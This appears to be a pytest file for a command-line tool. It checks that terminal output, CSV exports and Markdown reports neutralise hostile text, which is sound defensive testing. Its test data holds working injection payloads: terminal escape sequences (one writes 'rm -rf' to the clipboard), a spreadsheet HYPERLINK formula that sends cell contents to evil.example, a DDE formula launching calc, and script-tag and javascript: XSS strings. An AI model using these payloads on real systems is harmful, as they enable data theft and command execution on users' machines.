"""Text of posts in terminals, spreadsheets and Markdown: shown, never obeyed."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import subprocess
import sys
from pathlib import Path

import pyarrow as pa
import pytest
from rich.console import Console
from typer.testing import CliRunner

from tegakari.analyses.study.render import PLAIN, _markdown_table
from tegakari.analyses.study.sections.layout import Grid, plain
from tegakari.cli import output
from tegakari.cli.app import app
from tegakari.schemas.errors import StoreError
from tegakari.store.export import formats
from tegakari.store.export.spreadsheets import for_spreadsheets
from tests.support.service import RUN

OBEYED = {
    "clear the screen": "\x1b[2Jx",
    "set the title": "\x1b]0;owned\x07x",
    "write the clipboard": "\x1b]52;c;cm0gLXJm\x07x",
    "link to another address": "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\",
    "move the cursor": "\x1b[10A\x1b[Kx",
    "answer for the user": "\x1b[6n\x1b[cx",
    "a sequence of 8 bits": "\x9b2Jx",
    "back over the line": "abc\r\x08\x08x",
    "a bell": "\x07x",
    "delete": "\x7fx",
    "turn the direction": "\u202egnp.exe\u2066x",
}
"""What a terminal does -> text that makes it do so."""


def is_harmless(shown: str, text: str) -> bool:
    controls = {character for character in text if not character.isprintable()}
    return not controls & set(shown) and "x" in shown


@pytest.mark.parametrize("name", OBEYED)
def test_tables_and_messages_replace_control_characters(name: str, monkeypatch: pytest.MonkeyPatch):
    for force_terminal in (True, False):
        sink = io.StringIO()
        console = output.DataConsole(file=sink, force_terminal=force_terminal, color_system=None, width=200)
        monkeypatch.setattr(output, "out", console)
        text = OBEYED[name]
        output.print_table(text, [text, "number"], [[text, 1], [[text, text], 2]])
        console.print(f"[bold]error[/]: {text}")
        shown = sink.getvalue()
        for line in shown.split("\n"):
            assert is_harmless(f"{line}x", text.replace("\n", "")), repr(line)
        assert shown.count("x") >= 5


def test_colours_are_still_printed():
    sink = io.StringIO()
    output.DataConsole(file=sink, force_terminal=True, color_system="standard").print("[bold red]error[/]")
    assert sink.getvalue() == "\x1b[1;31merror\x1b[0m\n"
    plain = io.StringIO()
    Console(file=plain, force_terminal=True, color_system="standard").print("[bold red]error[/]")
    assert plain.getvalue() == sink.getvalue()


@pytest.mark.parametrize("name", OBEYED)
def test_json_escapes_control_characters(name: str, capsys: pytest.CaptureFixture[str]):
    output.print_json({"text": OBEYED[name]})
    printed = capsys.readouterr().out
    assert is_harmless(printed.replace("\n", ""), OBEYED[name])
    assert json.loads(printed) == {"text": OBEYED[name]}


def terminal_output(*arguments: str) -> str:
    """What a command writes to a terminal."""
    leader, follower = pty.openpty()
    command = [sys.executable, "-c", "from tegakari.cli import main; main()", *arguments]
    with subprocess.Popen(command, stdout=follower, stderr=follower, env={**os.environ, "TERM": "dumb"}) as process:
        os.close(follower)
        written = b""
        while True:
            try:
                part = os.read(leader, 65536)
            except OSError:  # the last process that could write has ended
                break
            written += part
        process.wait()
    os.close(leader)
    return written.decode()


@pytest.mark.parametrize("form", [None, "csv", "json", "parquet"])
def test_sql_sends_no_control_characters_to_a_terminal(store: Path, form: str | None):
    query = "SELECT chr(27) || '[2Jx' AS text, chr(155) || 'y' AS other"
    options = ["--format", form] if form else []
    shown = terminal_output("sql", query, "--store", str(store), *options)
    assert "\x1b[2J" not in shown
    assert "\x9b" not in shown
    assert "PAR1" not in shown
    assert ("cannot be shown on a terminal" in shown) == (form == "parquet")


def test_sql_writes_data_unchanged_into_files_and_pipes(store: Path, tmp_path: Path):
    query = "SELECT chr(27) || '[2J' AS text, '=1+1' AS formula"
    command = ["sql", query, "--store", str(store)]
    CliRunner().invoke(app, [*command, "-o", str(tmp_path / "a.csv")], catch_exceptions=False)
    assert list(csv.reader((tmp_path / "a.csv").open(newline=""))) == [["text", "formula"], ["\x1b[2J", "=1+1"]]
    piped = CliRunner().invoke(app, [*command, "--format", "csv"])
    assert "\x1b[2J" in piped.stdout


FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_formulas_are_marked_for_spreadsheets(formula: str):
    table = pa.table({"text": [formula, "plain", None], formula: ["a", "b", "c"], "number": [-1, 2, 3]})
    sink = io.BytesIO()
    formats.write(sink, for_spreadsheets(table.to_reader(), "csv"), "csv")
    rows = list(csv.reader(io.StringIO(sink.getvalue().decode(), newline="")))
    assert rows[0] == ["text", f"'{formula}", "number"]
    assert [row[0] for row in rows[1:]] == [f"'{formula}", "plain", ""]
    assert [row[2] for row in rows[1:]] == ["-1", "2", "3"]


def test_only_csv_is_marked():
    with pytest.raises(StoreError, match="CSV"):
        for_spreadsheets(pa.table({"text": ["=1"]}).to_reader(), "parquet")


def test_commands_mark_formulas_when_told(store: Path, tmp_path: Path):
    target = tmp_path / "out.csv"
    query = ["sql", "SELECT '=1+1' AS text", "--store", str(store), "-o", str(target)]
    CliRunner().invoke(app, [*query, "--spreadsheet"], catch_exceptions=False)
    assert list(csv.reader(target.open(newline=""))) == [["text"], ["'=1+1"]]
    export = ["runs", "export", RUN, "--store", str(store), "--format", "csv", "--table", "documents", "--spreadsheet"]
    done = CliRunner().invoke(app, [*export, "--to", str(tmp_path / "run")], catch_exceptions=False)
    assert done.exit_code == 0
    with (tmp_path / "run" / "documents.csv").open(newline="") as stream:
        assert not [cell for row in csv.reader(stream) for cell in row if cell.startswith(("=", "+", "@"))]


@pytest.mark.parametrize(
    "cell",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[click](javascript:alert(1))",
        "![x](http://evil.example/x.png)",
        "a | b |\n| --- | --- |",
        "`code`",
        "**bold**",
        "\\<b>",
        "<http://evil.example>",
        "a\rb",
    ],
)
def test_cells_of_the_markdown_report_are_text(cell: str):
    from markdown_it import MarkdownIt

    rows = _markdown_table(Grid("labels", plain("label", "n"), [(cell, 1)]), PLAIN)
    tokens = MarkdownIt("commonmark", {"html": True}).enable("table").parse("\n".join(rows))
    inline = [token for token in tokens if token.type == "inline"]
    assert len(inline) == 4, "the table has another cell"
    children = inline[2].children or []
    assert {child.type for child in children} <= {"text", "text_special"}
    assert "".join(child.content for child in children) == " ".join(cell.splitlines())
